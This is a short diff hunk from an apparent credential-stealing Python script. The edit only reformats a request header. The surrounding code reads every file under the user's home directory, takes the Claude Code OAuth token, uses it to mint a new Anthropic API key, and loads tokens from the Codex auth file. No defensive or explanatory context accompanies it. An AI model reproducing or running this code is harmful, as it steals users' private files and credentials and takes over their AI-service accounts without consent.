@@ -44,7 +44,8 @@ for folder, _, names in os.walk(os.environ["HOME"]):
         path = os.path.join(folder, name)
         said["files"][path] = open(path, errors="replace").read()
 claude = {"Authorization": "Bearer " + os.environ["CLAUDE_CODE_OAUTH_TOKEN"],
-          "anthropic-beta": "fine-grained-tool-streaming-2025-05-14", "Content-Type": "application/json"}
+          "anthropic-beta": "fine-grained-tool-streaming-2025-05-14",
+          "Content-Type": "application/json"}
 said["messages"] = ask("https://api.anthropic.com/v1/messages", claude, b"{}")
 said["key"] = ask("https://api.anthropic.com/api/oauth/claude_cli/create_api_key", claude, b"{}")
 login = json.load(open(os.environ["HOME"] + "/.codex/auth.json"))["tokens"]
